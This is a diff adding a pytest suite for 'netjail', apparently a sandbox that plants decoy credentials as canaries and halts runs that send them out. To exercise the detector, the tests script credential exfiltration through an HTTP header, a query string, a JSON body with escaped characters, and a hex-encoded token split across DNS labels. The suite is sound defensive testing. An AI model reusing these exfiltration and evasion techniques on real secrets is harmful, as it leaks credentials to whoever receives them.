@@ -1,0 +1,200 @@
+"""audit.canaries with the real binary: a canary the command sends out — in a header, a query string, a JSON body,
+a DNS name — is refused before the origin sees it, stops the run (exit 122, run_end `canary_tripped`) and is named
+by `netjail audit`; a run whose tools read the default credential names goes on; no record, flow file, HAR or log
+echoes a canary."""
+
+from __future__ import annotations
+
+import base64
+import json
+import sys
+import threading
+import time
+from http.server import ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+
+from netjail.detect.canaries import DECOY_FILE
+from tests.support.netjail import Netjail, Result
+from tests.support.servers import OriginHandler
+
+pytestmark = pytest.mark.nonroot
+
+TRIPPED = 122
+
+
+class RecordingHandler(OriginHandler):
+    """The origin's own log: every request line, header block and body it received, as bytes."""
+
+    def parse_request(self) -> bool:
+        ok = super().parse_request()
+        self.server.raw.append(self.raw_requestline + bytes(self.headers))  # type: ignore[attr-defined]
+        return ok
+
+    def do_POST(self) -> None:
+        length = int(self.headers.get("Content-Length") or 0)
+        body = self.rfile.read(length)
+        self.server.raw.append(body)  # type: ignore[attr-defined]
+        self._reply(200, b"ok\n")
+
+
+@pytest.fixture
+def origin():
+    server = ThreadingHTTPServer(("127.0.0.1", 0), RecordingHandler)
+    server.daemon_threads = True
+    server.label, server.seen, server.raw = "canary-origin", [], []  # type: ignore[attr-defined]
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield server
+    server.shutdown()
+
+
+def _settings(netjail: Netjail, **audit) -> Path:
+    return netjail.settings(
+        {"allowedDomains": ["allowed.test", "*.allowed.test"]}, audit={"canaries": True, **audit}
+    )
+
+
+def _leaks(value: str) -> list[bytes]:
+    raw = value.encode()
+    return [raw, raw.hex().encode(), base64.b64encode(raw)[:-4], base64.b32encode(raw)[:-8]]
+
+
+def _assert_never_echoed(netjail: Netjail, result: Result, value: str) -> None:
+    """No file of the run (flows.jsonl, flows.mitm, proxy.log, …), no HAR, nothing netjail printed holds the
+    canary in any of its forms (the command's own output file aside)."""
+    assert result.run_dir is not None
+    har = netjail.tmp_path / "run.har"
+    exported = netjail.command("export", "--har", str(har))
+    assert exported.returncode == 0, exported.stderr
+    texts = {p.name: p.read_bytes() for p in result.run_dir.rglob("*") if p.is_file()}
+    texts |= {"har": har.read_bytes(), "stderr": result.stderr.encode(), "stdout": result.stdout.encode()}
+    texts["audit"] = netjail.command("audit", "--json").stdout.encode()
+    for name, data in texts.items():
+        for form in _leaks(value):
+            assert form not in data, f"{name} holds a form of the canary"
+
+
+def _run(netjail: Netjail, script: str, *args: str) -> tuple[Result, str]:
+    """Runs `script` (bash) with canaries on; it writes the canary it sends to `sent.txt` first."""
+    result = netjail.run("-s", str(_settings(netjail)), *args, "-c", script, timeout=90)
+    sent = (netjail.work / "sent.txt").read_text().strip() if (netjail.work / "sent.txt").exists() else ""
+    return result, sent
+
+
+def _assert_tripped(
+    netjail: Netjail, result: Result, origin, sent: str, canary: str, where: str, phrase: str
+) -> dict:
+    assert result.returncode == TRIPPED, result.explain()
+    assert sent and not any(sent.encode() in chunk for chunk in origin.raw)  # the origin never got it
+    assert not (netjail.work / "after.txt").exists()  # the command was stopped there
+    end = result.records[-1]
+    assert end["event"] == "run_end" and end["reason"] == "canary_tripped" and end["exit_status"] == TRIPPED
+    assert canary in end["message"]
+    tripped = [r for r in result.records if r.get("canaries")]
+    assert tripped, result.records
+    record = tripped[0]
+    assert record["verdict"] == "deny" and record["reason"] == "canary_tripped"
+    assert record["canaries"][0]["canary"] == canary and where in record["canaries"][0]["where"]
+    report = json.loads(netjail.command("audit", "--json").stdout)
+    assert [c["canary"] for c in report["canaries"]] == [canary]
+    text = netjail.command("audit").stdout
+    assert phrase in text, text
+    assert f"netjail: canary {canary}" in result.stderr
+    _assert_never_echoed(netjail, result, sent)
+    return record
+
+
+def test_a_canary_in_a_header_is_refused_and_stops_the_run(netjail: Netjail, origin) -> None:
+    result, sent = _run(
+        netjail,
+        f"""printf %s "$LEGACY_GH_TOKEN" > sent.txt
+        curl -sS -o /dev/null -H "X-Deploy: $LEGACY_GH_TOKEN" http://allowed.test:{origin.server_port}/h
+        sleep 20; echo late > after.txt""",
+    )
+    started = time.monotonic()
+    _assert_tripped(
+        netjail, result, origin, sent, "LEGACY_GH_TOKEN", "header x-deploy",
+        "canary LEGACY_GH_TOKEN went to host allowed.test in the x-deploy header",
+    )  # fmt: skip
+    assert time.monotonic() - started < 60
+
+
+def test_a_canary_in_a_query_string(netjail: Netjail, origin) -> None:
+    result, sent = _run(
+        netjail,
+        f"""printf %s "$DEPLOY_AWS_KEY_ID" > sent.txt
+        curl -sS -o /dev/null "http://allowed.test:{origin.server_port}/q?key=$DEPLOY_AWS_KEY_ID"
+        echo late > after.txt""",
+    )
+    _assert_tripped(
+        netjail, result, origin, sent, "DEPLOY_AWS_KEY_ID", "query",
+        "canary DEPLOY_AWS_KEY_ID went to host allowed.test in the query string",
+    )  # fmt: skip
+
+
+def test_a_canary_from_the_decoy_file_in_a_json_body(netjail: Netjail, origin) -> None:
+    """Python in the jail reads the decoy file and posts its key JSON-escaped with \\u escapes."""
+    program = (
+        "import json, re, urllib.request\n"
+        f"text = open({DECOY_FILE!r}).read()\n"
+        "key = re.search(r'aws_secret_access_key = (\\S+)', text).group(1)\n"
+        "open('sent.txt', 'w').write(key)\n"
+        "body = json.dumps({'k': key}).replace(key[:4], ''.join('\\\\u%04x' % ord(c) for c in key[:4]))\n"
+        f"req = urllib.request.Request('http://allowed.test:{origin.server_port}/j', body.encode(),\n"
+        "                              {'Content-Type': 'application/json'})\n"
+        "try:\n    urllib.request.urlopen(req, timeout=20)\nexcept Exception as e:\n    print(e)\n"
+        "open('after.txt', 'w').write('late')\n"
+    )
+    (netjail.work / "post.py").write_text(program)
+    result, sent = _run(netjail, f"{sys.executable} post.py")
+    _assert_tripped(
+        netjail, result, origin, sent, f"{DECOY_FILE} aws_secret_access_key", "body",
+        f"canary {DECOY_FILE} aws_secret_access_key went to host allowed.test in the request body",
+    )  # fmt: skip
+
+
+def test_a_canary_in_a_dns_name_split_across_labels(netjail: Netjail, origin) -> None:
+    script = (
+        'printf %s "$BACKUP_NPM_TOKEN" > sent.txt\n'
+        'h=$(printf %s "$BACKUP_NPM_TOKEN" | od -An -tx1 | tr -d " \\n")\n'
+        'getent hosts "${h:0:40}.${h:40}.allowed.test"\n'
+        "echo late > after.txt"
+    )
+    result, sent = _run(netjail, script)
+    record = _assert_tripped(
+        netjail, result, origin, sent, "BACKUP_NPM_TOKEN", "dns",
+        "canary BACKUP_NPM_TOKEN went to host canary-BACKUP-NPM-TOKEN.allowed.test in a DNS lookup",
+    )  # fmt: skip
+    assert record["event"] == "dns" and record["answer"] == "NXDOMAIN"
+    assert record["name"] == "canary-BACKUP-NPM-TOKEN.allowed.test"
+
+
+def test_a_run_whose_tools_read_the_default_names_is_not_stopped(netjail: Netjail, origin) -> None:
+    """Control: GITHUB_TOKEN passed in and sent, the canaries present but untouched, the decoy file readable."""
+    env = {**netjail.env, "GITHUB_TOKEN": "ghp_" + "Ctrl0" * 7 + "X"}
+    cfg = netjail.settings(
+        {"allowedDomains": ["allowed.test"]}, audit={"canaries": True}, envPassthrough=["GITHUB_TOKEN"]
+    )
+    script = (
+        f'curl -sS -o /dev/null -H "Authorization: Bearer $GITHUB_TOKEN" '
+        f"http://allowed.test:{origin.server_port}/ctl\n"
+        'printf %s "$LEGACY_GH_TOKEN" > sent.txt\n'
+        f"test -s {DECOY_FILE} && env | grep -c -E '^(DEPLOY_AWS_KEY_ID|LLM_FALLBACK_KEY)=' > planted.txt"
+    )
+    result = netjail.run("-s", str(cfg), "-c", script, env=env)
+    assert result.returncode == 0, result.explain()
+    assert any(b"/ctl" in chunk and env["GITHUB_TOKEN"].encode() in chunk for chunk in origin.raw)
+    assert (netjail.work / "planted.txt").read_text().strip() == "2"
+    assert result.records[-1]["reason"] == "exited"
+    assert not any(r.get("canaries") for r in result.records)
+    report = json.loads(netjail.command("audit", "--json").stdout)
+    assert report["canaries"] == []
+    _assert_never_echoed(netjail, result, (netjail.work / "sent.txt").read_text())
+
+
+def test_without_the_setting_nothing_is_planted(netjail: Netjail) -> None:
+    cfg = netjail.settings({"allowedDomains": ["allowed.test"]})
+    result = netjail.run("-s", str(cfg), "-c", f"env > env.txt; test ! -e {DECOY_FILE}")
+    assert result.returncode == 0, result.explain()
+    assert "LEGACY_GH_TOKEN" not in (netjail.work / "env.txt").read_text()
